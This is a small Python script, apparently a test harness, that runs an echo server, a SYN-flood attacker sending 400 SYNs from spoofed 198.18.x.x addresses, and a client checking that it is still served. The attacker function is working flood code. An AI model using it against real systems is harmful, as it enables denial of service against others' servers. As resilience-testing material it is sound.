"""A SYN flood, its victim, and somebody who wants to be served all the same. Standard library only.

usage: syn_flood.py server ADDRESS PORT
       syn_flood.py attacker ADDRESS PORT
       syn_flood.py client ADDRESS PORT
"""

import random
import socket
import sys
import time

from crafted_peer import MSS_1460, SYN, Peer

CLIENT, SERVER = "02:00:00:00:00:01", "02:00:00:00:00:02"
SOURCES = 400


def server(address, port):
    with socket.create_server((address, port), backlog=32) as listening:
        print("ready", flush=True)
        while True:
            connection, _ = listening.accept()
            with connection:
                connection.sendall(connection.recv(100))


def attacker(address, port):
    chance = random.Random(4711)
    for _ in range(SOURCES):
        source = f"198.{18 + chance.randrange(2)}.{chance.randrange(256)}.{chance.randrange(1, 255)}"
        peer = Peer("c0", (CLIENT, source, chance.randrange(1024, 65536)), (SERVER, address, port))
        peer.send(SYN, chance.randrange(2**32), options=MSS_1460)
        peer.socket.close()
        time.sleep(0.002)


def client(address, port):
    with socket.create_connection((address, port)) as connection:
        connection.sendall(b"still there?\n")
        assert connection.recv(100) == b"still there?\n"


{"server": server, "attacker": attacker, "client": client}[sys.argv[1]](sys.argv[2], int(sys.argv[3]))
